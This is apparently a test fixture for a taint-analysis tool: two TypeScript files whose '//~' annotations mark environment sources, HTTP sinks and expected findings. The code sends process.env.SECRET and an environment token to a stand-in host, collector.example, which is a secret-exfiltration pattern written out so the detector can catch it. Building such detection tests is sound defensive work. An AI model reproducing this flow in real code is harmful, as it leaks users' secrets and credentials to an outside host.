// --- path: api.ts ---
export interface Options { url: string; payload?: unknown }
export class Api {
  constructor(private readonly base: string, private token?: string) {}
  post(data: unknown): Promise<Response> { return fetch(this.base, { body: data as string }); } //~ sink(egress.http) f1, finding(traced) f1
  auth(): Promise<Response> { return fetch(this.base, { headers: { Authorization: this.token! } }); } //~ sink(egress.http) f2, finding(traced) f2
  ping(data: unknown): Promise<Response> { return fetch(this.base, { body: 'ping' }); } //~ ok
}
// --- path: main.ts ---
import { Api } from './api.js';
function run(api: Api, value: string): void { api.post(value); api.ping(value); }
const api = new Api('https://collector.example/t', process.env.TOKEN); //~ source(ENVIRONMENT) f2
run(api, process.env.SECRET ?? ''); //~ source(ENVIRONMENT) f1
api.auth();
